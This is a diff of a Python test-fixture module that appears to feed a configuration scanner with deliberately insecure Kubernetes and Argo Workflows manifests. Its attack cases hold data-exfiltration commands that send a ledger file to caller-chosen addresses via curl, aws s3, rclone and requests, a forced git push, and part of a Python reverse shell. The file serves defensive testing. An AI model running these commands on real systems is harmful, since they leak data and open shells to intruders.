@@ -5,6 +5,7 @@ commands (2026-12-01, written beside the mends).
 Sources are as known where nothing else is stated."""
 
 from collections.abc import Mapping
+from dataclasses import replace
 
 from ..blind import IMAGE, TAGS, crd, k8s, meta, release, workload
 from ..harness import Given
@@ -120,9 +121,9 @@ def volumes(*options: str) -> tuple[Given, ...]:
 def sends(address: str, parameter: Mapping[str, object], kind: str = "WorkflowTemplate") -> tuple[Given, ...]:
     """Returns a workflow that sends a file to an address, with a parameter."""
     step = {"name": "send", "container": {**_step("curl", "-sSf", "-T", "/data/ledger.csv", address)},
-            "metadata": {"labels": TAGS}, "inputs": {"parameters": [{"name": "target"}]},
+            "metadata": {"labels": TAGS}, "inputs": {"parameters": [{"name": "to"}]},
             "activeDeadlineSeconds": 600}  # fmt: skip
-    passed = {"parameters": [{"name": "target", "value": "{{workflow.parameters.target}}"}]}
+    passed = {"parameters": [{"name": "to", "value": "{{workflow.parameters.target}}"}]}
     start = {"name": "start", "steps": [[{"name": "send", "template": "send", "arguments": passed}]]}
     return (crd(f"argoproj.io/v1alpha1:{kind}", {
         "entrypoint": "start", "serviceAccountName": "app", "activeDeadlineSeconds": 3600,
@@ -134,9 +135,11 @@ def sends(address: str, parameter: Mapping[str, object], kind: str = "WorkflowTe
 def run(*command: str, **more: object) -> tuple[Given, ...]:
     """Returns a workflow of one command whose caller states the parameter `target`."""
     (sent,) = sends("x", {})
-    spec = dict(sent.props["spec"])  # type: ignore[call-overload]
-    send = {**spec["templates"][1], "container": {**_step(*command), **more}}
-    return (crd("argoproj.io/v1alpha1:WorkflowTemplate", {**spec, "templates": [spec["templates"][0], send]}),)
+    spec = sent.props["spec"]
+    assert isinstance(spec, dict)
+    start, send = spec["templates"]
+    send = {**send, "container": {**_step(*command), **more}}
+    return (replace(sent, props={**sent.props, "spec": {**spec, "templates": [start, send]}}),)
 
 
 def _step(*command: str) -> dict[str, object]:
@@ -242,7 +245,7 @@ ATTACKS = (
             "version": "9.2.0", "nodeSets": [{"name": "all", "count": 3, "config": {
             "node.store.allow_mmap": False, "s3.client.default.endpoint": "http://objects.platform.svc:9000"}}]}),),
         "critical", "an endpoint with http:// is called without TLS (Elastic, 'S3 repository', endpoint, as known)"),
-    Attack("whoever starts a workflow says where the ledger goes", ADDRESSED, sends("{{inputs.parameters.target}}", {}),
+    Attack("whoever starts a workflow says where the ledger goes", ADDRESSED, sends("{{inputs.parameters.to}}", {}),
         "critical", "the address is in no plan: it may be anywhere (Argo Workflows, 'Parameters', as known)"),
     Attack("whoever starts a workflow says the host to which the ledger goes", ADDRESSED,
         sends("https://{{workflow.parameters.target}}/in", {"description": "host"}, "ClusterWorkflowTemplate"),
@@ -260,7 +263,7 @@ ATTACKS = (
     Attack("clients of a database may only come in plain text", PLAIN, text("ledger", "payments", {
         "pg_hba.conf": "local all all peer\nhostnossl all all 10.0.0.0/8 scram-sha-256\n"}),
         "critical", "hostnossl matches connections without TLS alone (PostgreSQL, 'The pg_hba.conf File')"),
-    Attack("files of a team come by NFS without a claim", PLAIN, (workload("apps/v1:StatefulSet", {
+    Attack("files of a team come by NFS without a claim", ("FJ-ENC-424",), (workload("apps/v1:StatefulSet", {
         "volumeMounts": [{"name": "files", "mountPath": "/files"}]}, volumes=[
             {"name": "files", "nfs": {"server": "10.20.0.9", "path": "/team-a"}}]),),
         "critical", "a volume of a pod has no options of its mount (Kubernetes, 'Volumes', nfs)"),
@@ -276,19 +279,19 @@ ATTACKS = (
             "os.dup2(s.fileno(),1);os.execv('/bin/sh',['/bin/sh'])"]}),),
         "critical", "who listens there has a shell in the pod (Python, os.dup2)"),
     Attack("whoever starts a workflow names the bucket for the ledger", ADDRESSED, run(
-        "aws", "s3", "cp", "/data/ledger.csv", "s3://{{inputs.parameters.target}}/ledger.csv"),
+        "aws", "s3", "cp", "/data/ledger.csv", "s3://{{inputs.parameters.to}}/ledger.csv"),
         "critical", "a bucket of anybody (AWS CLI, 's3 cp')"),
     Attack("whoever starts a workflow names the remote for the ledger", ADDRESSED, run(
         "rclone", "copy", "/data", "{{workflow.parameters.target}}"),
         "critical", "a remote of anybody (rclone, 'Connection strings')"),
     Attack("whoever starts a workflow names the repository for the code", ADDRESSED, run(
-        "git", "push", "--mirror", "{{inputs.parameters.target}}"),
+        "git", "push", "--force", "{{inputs.parameters.to}}", "main"),
         "critical", "a repository of anybody (Git, 'git-push')"),
     Attack("a variable has the address that whoever starts a workflow names", ADDRESSED, run(
         "sh", "-c", 'curl -sSf -T /data/ledger.csv "$STORE"',
-        env=[{"name": "STORE", "value": "{{inputs.parameters.target}}"}]),
+        env=[{"name": "STORE", "value": "{{inputs.parameters.to}}"}]),
         "critical", "as before (Argo Workflows, 'Parameters')"),
     Attack("a call of Python posts to the address that whoever starts a workflow names", ADDRESSED, run(
-        "python", "-c", "import requests as r; r.post('{{inputs.parameters.target}}', data=open('/data/l.csv'))"),
+        "python", "-c", "import requests as r; r.post('{{inputs.parameters.to}}', data=open('/data/l.csv'))"),
         "critical", "as before (Argo Workflows, 'Parameters')"),
 )  # fmt: skip
